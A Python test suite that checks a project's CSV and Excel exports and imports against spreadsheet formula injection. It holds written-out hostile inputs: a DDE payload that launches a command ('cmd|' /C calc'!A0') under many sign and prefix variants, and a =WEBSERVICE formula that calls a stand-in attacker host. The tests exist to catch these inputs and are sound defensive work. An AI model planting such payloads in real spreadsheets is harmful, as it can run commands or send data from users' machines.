"""No cell that leaves a service begins a formula, in no table and no form; what comes in is kept."""

import csv
import importlib
import io
import json
from collections.abc import Iterator, Mapping
from typing import Any, Final
from zipfile import ZipFile

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from shared.errors.faults import Fault
from shared.imports.forms import errors_as_sent, read_rows
from shared.imports.kinds import ImportKind
from shared.messages.catalogue import Catalogue
from shared.tables.cells import read_cell
from shared.tables.exporting import Format, Sheet, opening, piece, write_sheet
from shared.tables.reading import CellError, Row
from shared.tables.templates import Column, Kind
from shared.tables.writing import write_csv, write_workbook
from tests.architecture.tree import ROOT
from tests.security.standing import SERVICES

SIGNS: Final = "=+-@＝＋－＠﹦﹢﹣﹫\t\r\n"
PAYLOAD: Final = "cmd|' /C calc'!A0"
BEHIND: Final = ("", " ", "\u3000", "\u200b", "'", "''")
"""What may stand before the sign without taking it away."""
FORMULAS: Final = [f"{before}{sign}{PAYLOAD}" for sign in SIGNS for before in BEHIND]
FORMS: Final = (Format.CSV, Format.XLSX)
TYPED: Final = (Kind.TEXT, Kind.CODE)


def sheets() -> dict[str, Sheet]:
    """Every table that is handed out, by service and name."""
    found = {}
    for service in SERVICES:
        if (ROOT / "services" / service / "exports" / "rules.py").exists():
            rules = importlib.import_module(f"services.{service}.exports.rules")
            named = {name: each for name, each in vars(rules).items() if isinstance(each, Sheet)}
            found |= {f"{service} {name.lower()}": each for name, each in named.items()}
    return found


def imports() -> dict[str, ImportKind[Any, Any, Any]]:
    """Every kind of list that is taken in."""
    found = {}
    for file in sorted((ROOT / "services").glob("*/*imports/dependencies.py")):
        module = importlib.import_module(".".join(file.relative_to(ROOT).with_suffix("").parts))
        found |= {each.name: each for each in vars(module).values() if isinstance(each, ImportKind)}
    return found


SHEETS, IMPORTS = sheets(), imports()


def told(service: str) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((ROOT / "services" / service / "openapi.json").read_bytes())
    return document


def written(sheet: Sheet, form: Format, items: list[dict[str, Any]]) -> bytes:
    if form is Format.CSV:
        return opening(sheet, form) + piece(sheet, form, items)
    target = io.BytesIO()
    write_sheet(target, sheet, items)
    return target.getvalue()


def cells_of(content: bytes, form: Format) -> Iterator[str]:
    """As a spreadsheet reads them."""
    if form is Format.CSV:
        lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        yield from (cell for line in lines for cell in line)
        return
    for row in CalamineWorkbook.from_object(io.BytesIO(content)).get_sheet_by_index(0).to_python():
        yield from (cell for cell in row if isinstance(cell, str))


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip(" \u3000\u200b\ufeff").startswith(tuple(SIGNS))


def runs(content: bytes) -> bool:
    """Whether a workbook holds a formula or an address that a click opens."""
    with ZipFile(io.BytesIO(content)) as parts:
        pages = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
    return any(b"<f>" in page or b"<hyperlink" in page for page in pages)


@pytest.mark.parametrize("service", SERVICES)
def test_P03_every_export_and_import_of_a_contract_is_under_proof(service: str):
    operations = [each for path in told(service)["paths"].values() for each in path.values() if each]
    tabular = [each for each in operations if "text/csv" in str(each.get("responses"))]
    assert len(tabular) == sum(name.split()[0] == service for name in SHEETS)
    taking = [name for name in told(service)["paths"] if name.endswith("imports")]
    assert sorted(taking) == sorted(each.path for each in IMPORTS.values() if f"/{service}/" in each.path)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", SHEETS)
def test_P03_no_cell_of_an_export_is_run_by_a_spreadsheet(name: str, form: Format):
    sheet = SHEETS[name]
    items = [dict.fromkeys((column.key for column in sheet.columns), text) for text in FORMULAS]
    listed = [{key: [text] for key in (column.key for column in sheet.columns)} for text in FORMULAS]
    content = written(sheet, form, items + listed)
    assert [cell for cell in cells_of(content, form) if begins_a_formula(cell)] == []
    assert len(list(cells_of(content, form))) == len(sheet.columns) * (1 + 2 * len(FORMULAS))
    assert form is Format.CSV or not runs(content)


@pytest.mark.parametrize("name", SHEETS)
def test_P03_nor_by_one_that_parts_it_at_another_character(name: str):
    sheet = SHEETS[name]
    texts = [f"甲{parting}{sign}{PAYLOAD}" for parting in ";\t|\n" for sign in "=+-@＝＋－＠﹦﹢﹣﹫"]
    items = [dict.fromkeys((column.key for column in sheet.columns), text) for text in texts]
    content = written(sheet, Format.CSV, items).decode("utf-8-sig")
    for delimiter in ";\t|":
        lines = csv.reader(io.StringIO(content, newline=""), delimiter=delimiter)
        assert [cell for line in lines for cell in line if begins_a_formula(cell)] == []


def sent(kind: ImportKind[Any, Any, Any], form: Format, texts: Mapping[str, str]) -> bytes:
    """A row as its sender's spreadsheet would write it: without an apostrophe."""
    if form is Format.CSV:
        target = io.StringIO()
        writer = csv.writer(target)
        writer.writerow([column.header for column in kind.template.columns])
        writer.writerow([texts.get(column.key, "") for column in kind.template.columns])
        return target.getvalue().encode("utf-8-sig")
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet()
        for place, column in enumerate(kind.template.columns):
            sheet.write_string(0, place, column.header)
            sheet.write_string(1, place, texts.get(column.key, ""))
    return kept.getvalue()


MEDIA: Final = {
    Format.CSV: "text/csv",
    Format.XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def taken(kind: ImportKind[Any, Any, Any], form: Format, content: bytes) -> Row:
    [row] = read_rows(io.BytesIO(content), MEDIA[form], kind.template, kind.flatten)
    return row


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", IMPORTS)
def test_P03_an_import_keeps_such_text_as_it_is_and_takes_it_for_nothing_else(name: str, form: Format):
    kind = IMPORTS[name]
    for text in ("=1+1", "+86-531", "-@", "@x", "=HYPERLINK(0)"):
        row = taken(kind, form, sent(kind, form, {column.key: text for column in kind.template.columns}))
        plain = {column.key for column in kind.template.columns if column.kind in TYPED}
        assert {key: value for key, value in row.values.items() if key in plain} == dict.fromkeys(plain, text)
        assert {error.column for error in row.errors} == {c.key for c in kind.template.columns} - plain


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", IMPORTS)
def test_P03_what_a_service_wrote_it_reads_back_without_the_apostrophe(name: str, form: Format):
    kind = IMPORTS[name]
    plain = [column.key for column in kind.template.columns if column.kind in TYPED]
    for text in ("=1+1", "'=1", "＝1", "－1"):
        target = io.BytesIO()
        if form is Format.CSV:
            write_csv(target, kind.template.columns, [dict.fromkeys(plain, text)])
        else:
            write_workbook(target, kind.template, [dict.fromkeys(plain, text)])
        assert taken(kind, form, target.getvalue()).typed == {
            column.key: text if column.key in plain else "" for column in kind.template.columns
        }


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", IMPORTS)
def test_P03_rows_that_come_back_with_their_faults_run_nothing_either(name: str, form: Format):
    kind = IMPORTS[name]
    keys = [column.key for column in kind.template.columns]
    refused = [
        Row(2, {}, dict.fromkeys(keys, text), (CellError("cell_required", keys[0], {"header": text}),))
        for text in FORMULAS
    ]
    content = errors_as_sent(refused, MEDIA[form], kind.template, Catalogue.load())
    assert [cell for cell in cells_of(content, form) if begins_a_formula(cell)] == []
    assert form is Format.CSV or not runs(content)


def test_P03_of_a_formula_in_a_workbook_only_what_its_sender_saw_is_read():
    kind = next(iter(IMPORTS.values()))
    key = next(column.key for column in kind.template.columns if column.kind is Kind.TEXT)
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept) as book:
        sheet = book.add_worksheet()
        for place, column in enumerate(kind.template.columns):
            sheet.write_string(0, place, column.header)
            if column.key == key:
                sheet.write_formula(1, place, '=WEBSERVICE("http://evil.example")', None, "孔府家酒")
    assert taken(kind, Format.XLSX, kept.getvalue()).values == {key: "孔府家酒"}


@pytest.mark.parametrize("kind", [Kind.NUMBER, Kind.MONEY, Kind.DAY, Kind.BOOLEAN, Kind.CHOICE])
def test_P03_what_is_no_text_is_refused_when_it_begins_as_a_formula(kind: Kind):
    column = Column("x", "某列", kind, choices={"a": "甲"} if kind is Kind.CHOICE else {})
    for text in FORMULAS:
        with pytest.raises(Fault):
            read_cell(text, column, column.unit)
